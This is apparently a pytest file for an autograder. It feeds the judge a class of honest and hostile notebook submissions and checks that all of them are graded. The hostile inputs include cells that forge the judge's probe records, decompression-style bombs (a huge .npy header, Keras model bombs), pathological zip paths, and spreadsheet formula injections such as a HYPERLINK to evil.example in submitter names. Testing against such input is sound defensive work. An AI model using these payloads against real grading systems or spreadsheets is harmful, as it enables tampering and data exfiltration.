"""A class that includes submissions built to crash the judge: the batch grades everyone.

One Gradescope export of 38 ``mse`` submissions: 28 honest ones (right answers and
everyday mistakes, each notebook a little different) and 10 that crashed the judge's
earlier code paths with a traceback and no result: probe records rewritten by the
student's code while the probe runs (an ill-typed float marker, a 5,000-digit integer, a
400-digit duration, an unhashable status, a tuple marker holding a number, an ``.npy`` header that
declares 2**40 float64s), and hand-in zips whose paths cannot be laid out (a 300-character
name, a name used as file and folder, the notebook's own name turned into a folder, 2,000
folders deep). The submitters' names carry spreadsheet formulas.

Checked: the batch exits 0 with no machine failure and no worker replaced; every hostile
submission gets a graded result with a specific problem code; the honest ones get exactly
the results of a batch without the hostile ones; a rerun grades nothing (every result,
errors included, comes from the cache); the gradebook has no formula cell.

A second, small batch adds the two model bombs (the Keras exercise they aim at is graded
in fast mode; the bombs are built by tests/test_model_bombs.py): 38 + 2 = the class of 40.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import nbformat
import pytest

from autograder.batch.demo import write_submission
from autograder.exercises import Exercise, get_exercise
from autograder.reporters.spreadsheet import FORMULA_TRIGGERS
from autograder.results import GradeResult, ProblemCode
from tests.batch_support import (
    comparable_results,
    gradescope_metadata,
    log_events,
    read_summary,
    run_grade_batch,
)

pytestmark = pytest.mark.slow

HONEST_KINDS = ("correct", "slide-typo", "loops", "sum-not-mean", "not-written", "crash",
                "correct")
HONEST_PER_KIND = 4  # 7 kinds x 4 students = 28 honest submissions


def _record(**fields: Any) -> bytes:
    body = {"id": "x", "protocol": {"__int__": "1"}, "status": "ok", **fields}
    return json.dumps({"__dict__": body}).encode()


def _npy_header(shape: tuple[int, ...]) -> bytes:
    header = repr({"descr": "<f8", "fortran_order": False, "shape": shape})
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode()


def _npz(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


EMPTY_NPZ = _npz({})
# Probe record 0 (the grader's first call, to `mse`) rewritten as: json, npz.
FORGED_RECORDS = {
    "float-marker": (_record(value={"__float__": "x"}), EMPTY_NPZ),
    "huge-int": (_record(value={"__int__": "9" * 5000}), EMPTY_NPZ),
    "huge-seconds": (_record(value=1.0, seconds={"__int__": "9" * 400}), EMPTY_NPZ),
    "unhashable-status": (_record(status={"__dict__": {}}), EMPTY_NPZ),
    "tuple-marker": (_record(value={"__tuple__": 5}), EMPTY_NPZ),
    "npy-header-bomb": (_record(value={"__array__": "a0"}),
                        _npz({"a0.npy": _npy_header((2**40,)) + b"\0" * 64})),
}


def _forging_cell(data: tuple[bytes, bytes]) -> str:
    """Wraps ``cost`` so that its first call by the probe (after the ``mse`` calls were
    written) rewrites record 0 wherever the probe writes: the results folder, or a staging
    folder inside it."""
    encoded = [base64.b64encode(part).decode() for part in data]
    return f'''
import base64 as _b64, glob as _glob, os as _os
_FORGED, _done, _real_cost = {encoded!r}, [], cost
def cost(*args, **kwargs):
    if not _done:
        _done.append(1)
        for probe in _glob.glob("../out/probe") + _glob.glob("../out/.staging-*/probe"):
            for suffix, data in zip((".json", ".npz"), _FORGED):
                path = f"{{probe}}/0{{suffix}}"
                if _os.path.lexists(path):
                    _os.unlink(path)
                with open(path, "wb") as handle:
                    handle.write(_b64.b64decode(data))
    return _real_cost(*args, **kwargs)
'''


def _solution_with(exercise: Exercise, student: str, extra: str | None = None) -> bytes:
    notebook = nbformat.read(exercise.solution_path, as_version=4)
    notebook.cells.insert(0, nbformat.v4.new_markdown_cell(f"Submitted by {student}."))
    if extra is not None:
        notebook.cells.append(nbformat.v4.new_code_cell(extra))
    return nbformat.writes(notebook).encode("utf-8")


def _hand_in_zip(notebook: bytes, odd: dict[str, bytes]) -> bytes:
    return _npz({"answer.ipynb": notebook, **odd})


def _path_oddities() -> dict[str, dict[str, bytes]]:
    return {
        "long-name": {"n" * 300 + ".csv": b"x"},
        "file-and-folder": {"data": b"a file", "data/rows.csv": b"and a folder"},
        "notebook-name-folder": {"mse.ipynb/notes.txt": b"the notebook's own path"},
        "deep-path": {"d/" * 2000 + "deep.txt": b"deep"},
    }


def _honest(exercise: Exercise, scratch: Path) -> dict[str, tuple[str, bytes]]:
    """{folder: (kind, notebook bytes)}: 7 kinds x 4 students, each notebook signed."""
    scratch.mkdir(parents=True)
    honest: dict[str, tuple[str, bytes]] = {}
    for round_ in range(HONEST_PER_KIND):
        for index, kind in enumerate(HONEST_KINDS):
            name = f"student-{round_}-{index}"
            path = write_submission(exercise, kind, scratch, name)
            notebook = nbformat.read(path, as_version=4)
            notebook.cells.insert(0, nbformat.v4.new_markdown_cell(f"Submitted by {name}."))
            honest[f"submission_{1001 + len(honest)}"] = (kind, nbformat.writes(notebook)
                                                         .encode("utf-8"))
    return honest


def _hostile(exercise: Exercise) -> dict[str, tuple[str, str, bytes]]:
    """{folder: (kind, file name, bytes)} for the 10 submissions that crashed the judge."""
    hostile: dict[str, tuple[str, str, bytes]] = {}
    for kind, data in FORGED_RECORDS.items():
        hostile[f"submission_{2001 + len(hostile)}"] = (
            kind, "mse.ipynb", _solution_with(exercise, kind, _forging_cell(data)))
    for kind, odd in _path_oddities().items():
        hostile[f"submission_{2001 + len(hostile)}"] = (
            kind, "hand-in.zip", _hand_in_zip(_solution_with(exercise, kind), odd))
    return hostile


def _export(path: Path, members: dict[str, tuple[str, str, bytes]]) -> Path:
    """A Gradescope export of {folder: (kind, file name, bytes)}; every submitter's name,
    email and SID starts like a spreadsheet formula."""
    people = {folder: [(f'=HYPERLINK("http://evil.example/?"&A1,"{folder}")',
                        f"@{folder}", f"+{folder}@uni.edu")] for folder in members}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("assignment_1_export/submission_metadata.yml",
                         gradescope_metadata(people))
        for folder, (_, name, data) in members.items():
            archive.writestr(f"assignment_1_export/{folder}/{name}", data)
    return path


def _results(out: Path) -> dict[str, GradeResult]:
    return {p.stem: GradeResult.from_dict(json.loads(p.read_text(encoding="utf-8")))
            for p in (out / "results").glob("*.json")}


def _verdicts(result: GradeResult) -> tuple[float, list[tuple[str, str]]]:
    return result.score, [(t.name, t.status) for t in result.tests]


def test_a_class_with_judge_crashers_is_graded_whole(tmp_path: Path) -> None:
    mse = get_exercise("mse")
    honest = {f: (kind, "mse.ipynb", data)
              for f, (kind, data) in _honest(mse, tmp_path / "scratch").items()}
    hostile = _hostile(mse)
    kinds = {f: member[0] for f, member in (honest | hostile).items()}
    assert len(honest) == 28 and len(hostile) == 10
    export = _export(tmp_path / "class.zip", honest | hostile)
    # One student of each honest kind, the same bytes, graded without anyone hostile.
    alone_kinds = {f: kinds[f] for f in list(honest)[:len(HONEST_KINDS)]}
    alone_export = _export(tmp_path / "alone.zip", {f: honest[f] for f in alone_kinds})

    alone = tmp_path / "alone-out"
    done = run_grade_batch("mse", alone_export, alone, "--workers", "2")
    assert done.returncode == 0, done.stderr

    out = tmp_path / "out"
    done = run_grade_batch("mse", export, out, "--workers", "2")
    assert done.returncode == 0, done.stderr
    summary = read_summary(out)
    assert summary["graded"] == 38 and summary["missing"] == []
    assert summary["sandbox_failures"] == [] and summary["run"]["sandbox_failures_now"] == 0
    # No worker was lost: every grade started in one of the two original worker processes.
    starts = [e for e in log_events(out) if e["event"] == "start"]
    assert len(starts) == 38 and len({e["pid"] for e in starts}) <= 2

    results = _results(out)
    for folder, kind in kinds.items():
        result = results[folder]
        if kind in FORGED_RECORDS:
            assert result.has_problem(ProblemCode.UNREADABLE_DATA), (kind, result.errors)
            assert result.score < result.max_score
        elif kind in _path_oddities():
            assert result.has_problem(ProblemCode.SUBMISSION_REFUSED,
                                      ProblemCode.INTERNAL_ERROR), (kind, result.errors)
            assert result.score == 0
    # The same bytes give exactly the same result as alone; every other honest student
    # gets the verdicts of their kind (their own random inputs word messages differently).
    assert comparable_results(out, only=set(alone_kinds)) == comparable_results(alone)
    reference = {kind: _verdicts(results[f]) for f, kind in alone_kinds.items()}
    assert {f: _verdicts(results[f]) for f in honest} == {
        f: reference[kinds[f]] for f in honest}
    assert any(results[f].score == results[f].max_score for f in honest)

    rows = (out / "gradebook.csv").read_text(encoding="utf-8").splitlines()
    assert len(rows) == 39
    cells = [cell for row in csv.reader(rows) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]

    again = run_grade_batch("mse", export, out, "--workers", "2")
    assert again.returncode == 0, again.stderr
    run = read_summary(out)["run"]
    assert run["graded_now"] == 0 and run["from_cache"] == 38
    stored = [e["key"] for e in log_events(out) if e["event"] == "stored"]
    assert len(stored) == len(set(stored)) == 38


def test_model_bombs_in_a_class_fail_their_tests_and_kill_no_worker(tmp_path: Path) -> None:
    """Two small model files that would make the judge use gigabytes (a config-only
    Dense(650000), a variable that declares 1 GiB and stores nothing), handed in for the
    linear-regression exercise with a notebook that only says it saved them (so only the
    judge opens them): each fails the tests of its file with the limit named, the batch
    exits 0, no worker is lost, a rerun grades nothing."""
    from tests.test_model_bombs import config_only_dense, declared_gigabyte_keras

    exercise = get_exercise("linear-regression")
    submissions = tmp_path / "submissions"
    bombs = {"wide": ("line.keras", config_only_dense, "more than 10,000,000 parameters"),
             "declared": ("house_prices.keras", declared_gigabyte_keras,
                          "declares 1,024.0 MiB in the dataset")}
    for name, (file_name, build, _) in bombs.items():
        folder = submissions / name
        folder.mkdir(parents=True)
        notebook = nbformat.v4.new_notebook()
        notebook.cells = [nbformat.v4.new_code_cell("print('models saved')")]
        nbformat.write(notebook, folder / exercise.solution_path.name)
        build(folder / file_name)
        assert (folder / file_name).stat().st_size < 2**20  # small files
    out = tmp_path / "out"
    done = run_grade_batch("linear-regression", submissions, out, "--workers", "2",
                           "--mode", "fast")
    assert done.returncode == 0, done.stderr
    summary = read_summary(out)
    assert summary["graded"] == 2 and summary["sandbox_failures"] == []
    starts = [e for e in log_events(out) if e["event"] == "start"]
    assert len(starts) == 2 and len({e["pid"] for e in starts}) <= 2
    results = _results(out)
    for name, (file_name, _, refusal) in bombs.items():
        refused = [t for t in results[name].tests if refusal in t.output]
        assert refused and all(t.status != "passed" and file_name in t.output
                               for t in refused), results[name].tests
    again = run_grade_batch("linear-regression", submissions, out, "--workers", "2",
                            "--mode", "fast")
    assert again.returncode == 0, again.stderr
    assert read_summary(out)["run"]["from_cache"] == 2
